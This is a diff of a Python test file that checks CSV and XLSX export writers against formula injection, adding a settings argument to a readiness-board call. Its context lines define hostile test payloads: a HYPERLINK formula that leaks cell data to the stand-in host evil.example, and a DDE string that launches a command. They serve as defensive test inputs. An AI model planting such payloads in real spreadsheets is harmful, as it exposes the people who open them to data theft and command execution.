@@ -24,6 +24,7 @@ from lib.readiness import Data, readiness_board, record_tier_change
 from lib.core.schema import TABLES
 from lib.views import access as access_views
 from lib.views import data as data_views
+from lib.core.settings import defaults
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
@@ -87,7 +88,7 @@ def _unescaped(cells: list[str]) -> list[str]:
 def _writers(engine: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, tuple[str, bytes]]:
     """Every writer we have -> (csv|xlsx, bytes), on the hostile store."""
     data = Data.from_store(engine)
-    board = readiness_board(data, pd.Timestamp("2026-11-21"))
+    board = readiness_board(data, pd.Timestamp("2026-11-21"), defaults())
     audit = privacy.read_audit(engine, "admin")
     out: dict[str, tuple[str, bytes]] = {
         "rejected rows download (Data page)": ("csv", data_views.rejects_csv(store.read_rejects(engine))),
